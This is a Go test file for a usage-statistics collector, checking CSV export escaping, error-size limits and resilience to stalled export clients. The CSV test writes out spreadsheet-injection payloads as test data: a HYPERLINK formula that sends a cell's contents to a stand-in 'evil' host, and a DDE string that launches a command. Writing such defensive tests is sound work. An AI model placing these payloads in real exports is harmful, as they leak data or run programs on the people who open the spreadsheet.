package collector

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/krakend-usage/krakend-usage/collector/store"
	"github.com/krakend-usage/krakend-usage/usage/hashcash"
)

// TestStatsCSVSpreadsheetSafe: no cell of /api/stats.csv, read with a CSV
// parser, begins with a character a spreadsheet takes for a formula
// (OWASP: = + - @ TAB CR), and the value is kept behind the quote.
func TestStatsCSVSpreadsheetSafe(t *testing.T) {
	e := newEnv(t, Config{})
	// Versions are printable ASCII (usage's rule): TAB and CR can only
	// come in feature names.
	hostile := []string{`=HYPERLINK("http://evil/"&A1,"click")`, "+1+2", "-2", "@SUM(A1)"}
	for i, v := range hostile {
		tok := e.session("csv-c", "csv-s"+string(rune('a'+i)))
		req := validReport(t, tok, "csv-c", "csv-s"+string(rune('a'+i)), testBits)
		req.Data.Version = v
		req.Data.Extra = gatewayPayload(1, 1, map[string]int{"GET": 1}, map[string]int{"-cmd|' /C calc'!A0": 1, "\tx": 1, "\rx": 1, v: 1})
		mint(t, req, &hashcash.Minter{Bits: testBits})
		if code, m, _ := e.post("/report", req); code != 200 {
			t.Fatalf("report with version %q: %d %v", v, code, m)
		}
	}
	for _, series := range []string{"versions_weekly", "features"} {
		resp, err := http.Get(e.ts.URL + "/api/stats.csv?series=" + series)
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(resp.Body).ReadAll()
		resp.Body.Close()
		if err != nil {
			t.Fatalf("%s: %v", series, err)
		}
		var all []string
		for _, row := range rows {
			for _, c := range row {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("%s: cell %q begins with a formula character", series, c)
				}
				all = append(all, c)
			}
		}
		if series == "versions_weekly" {
			for _, v := range hostile {
				if !strings.Contains(strings.Join(all, "\n"), "'"+v) {
					t.Errorf("%s: version %q not found behind a quote in %q", series, v, all)
				}
			}
		}
	}
}

// TestErrorAnswersSmall: every error answer stays under 1 KiB however long
// the input it names.
func TestErrorAnswersSmall(t *testing.T) {
	e := newEnv(t, Config{})
	long := strings.Repeat("é", 30_000)
	for _, path := range []string{
		"/api/clusters?after=" + strings.Repeat("a", 60_000),
		"/api/clusters?after=" + long,
		"/api/clusters?limit=" + strings.Repeat("9", 60_000),
		"/api/stats?days=" + strings.Repeat("x", 60_000),
		"/api/stats.csv?series=" + strings.Repeat("s", 60_000),
		"/api/clusters/" + strings.Repeat("c", 4000),
	} {
		resp, err := http.Get(e.ts.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode < 400 || len(b) >= 1024 || !json.Valid(b) {
			t.Errorf("%s…: %d, %d bytes %.80q, want an error answer of JSON under 1 KiB", path[:30], resp.StatusCode, len(b), b)
		}
	}
}

// TestStalledExportKeepsIntake: exports whose clients read nothing hold
// neither the database nor the intake. With more stalled exports than
// either backend's read pool, and the writes that would fill SQLite's WAL
// meanwhile, reports are stored and /healthz and /api/stats answer
// throughout; exports beyond maxExports get 503 at once, and a stalled
// one is cut after exportStall.
func TestStalledExportKeepsIntake(t *testing.T) {
	for _, b := range backends {
		t.Run(b.name, func(t *testing.T) {
			st, _ := b.open(t)
			e := newEnvWith(t, st, Config{SessionRate: -1})
			e.srv.exportStall = 2 * time.Second
			// A day of about 20 MB: more than the sockets' buffers hold.
			pad := `{"endpoints":1,"pad":"` + strings.Repeat("x", 48<<10) + `"}`
			bulk := func(n int) {
				var wg sync.WaitGroup
				for i := range n {
					r := &store.Report{Received: time.Now().UTC(), ClusterID: "bulk", ServerID: fmt.Sprintf("s%d", i%20),
						Version: "v2.6.0", OS: "linux", Arch: "amd64", ReportTime: time.Now().UTC(), Extra: []byte(pad),
						Stamp: fmt.Sprintf("1:8:%s:bulk%d::salt:%x", time.Now().UTC().Format("060102"), i, time.Now().UnixNano())}
					wg.Go(func() {
						if err := st.Insert(context.Background(), r); err != nil {
							t.Errorf("bulk insert: %v", err)
						}
					})
				}
				wg.Wait()
			}
			bulk(400)
			path := "/api/reports.ndjson?day=" + time.Now().UTC().Format(time.DateOnly)
			const stalled = 4 // the PostgreSQL pool's size, twice SQLite's read pool
			var streaming []net.Conn
			statuses := map[int]int{}
			for range stalled {
				c, err := net.Dial("tcp", e.ts.Listener.Addr().String())
				if err != nil {
					t.Fatal(err)
				}
				defer c.Close()
				fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: collector\r\n\r\n", path)
				c.SetReadDeadline(time.Now().Add(10 * time.Second))
				var status string
				fmt.Fscanf(c, "HTTP/1.1 %s", &status) // a few bytes; the rest stays unread
				code, _ := strconv.Atoi(status)
				statuses[code]++
				if code == 200 {
					streaming = append(streaming, c)
				}
			}
			if statuses[200] != maxExports || statuses[503] != stalled-maxExports {
				t.Errorf("%d exports at once: statuses %v, want %d × 200 and the rest 503", stalled, statuses, maxExports)
			}
			// Meanwhile: another 15 MB of writes, and reporters, /healthz
			// and /api/stats for 3 s.
			done := make(chan struct{})
			go func() { defer close(done); bulk(300) }()
			var stored, refused, healthFailed, statsFailed int
			var reports, health, stats []time.Duration
			client := &http.Client{Timeout: 15 * time.Second}
			bulkDone := func() bool {
				select {
				case <-done:
					return true
				default:
					return false
				}
			}
			start := time.Now()
			for time.Since(start) < 3*time.Second || !bulkDone() {
				srv := fmt.Sprintf("r%d", stored+refused)
				req := validReport(t, e.session("honest", srv), "honest", srv, testBits)
				t0 := time.Now()
				code, _, _ := e.post("/report", req)
				reports = append(reports, time.Since(t0))
				if code == 200 {
					stored++
				} else {
					refused++
				}
				for _, c := range []struct {
					path   string
					took   *[]time.Duration
					failed *int
				}{{"/healthz", &health, &healthFailed}, {"/api/stats", &stats, &statsFailed}} {
					t0 := time.Now()
					resp, err := client.Get(e.ts.URL + c.path)
					if err == nil {
						io.Copy(io.Discard, resp.Body)
						resp.Body.Close()
					}
					*c.took = append(*c.took, time.Since(t0))
					if err != nil || resp.StatusCode != 200 {
						*c.failed++
					}
				}
			}
			t.Logf("%s: during %d stalled exports, one after another for %s: %d reports stored, %d refused, p99 %s; /healthz %d failed, p99 %s; /api/stats %d failed, p99 %s",
				b.name, stalled, time.Since(start).Round(time.Second), stored, refused, p99(reports), healthFailed, p99(health), statsFailed, p99(stats))
			if refused+healthFailed+statsFailed > 0 {
				t.Errorf("during stalled exports: %d reports refused, %d /healthz and %d /api/stats failed, want none", refused, healthFailed, statsFailed)
			}
			// The stalled exports are cut: the next export is sent once
			// they are, and each of them got less than the day.
			full := exportSize(t, e.ts.URL+path, exportStall)
			for i, c := range streaming {
				c.SetReadDeadline(time.Now().Add(10 * time.Second))
				n, err := io.Copy(io.Discard, c)
				if err != nil || n >= full {
					t.Errorf("stalled export %d: read %d more bytes (%v), want a cut answer, shorter than the day's %d", i, n, err, full)
				}
			}
		})
	}
}

// exportSize is the length of the export at url, read whole, asked
// again while it is 503 (other exports being sent) for at most wait.
func exportSize(t *testing.T, url string, wait time.Duration) int64 {
	t.Helper()
	for deadline := time.Now().Add(wait); ; time.Sleep(100 * time.Millisecond) {
		resp, err := http.Get(url)
		if err != nil {
			t.Fatal(err)
		}
		n, err := io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode == http.StatusServiceUnavailable && time.Now().Before(deadline) {
			continue
		}
		if err != nil || resp.StatusCode != 200 {
			t.Fatalf("export: %d, %d bytes, %v", resp.StatusCode, n, err)
		}
		return n
	}
}
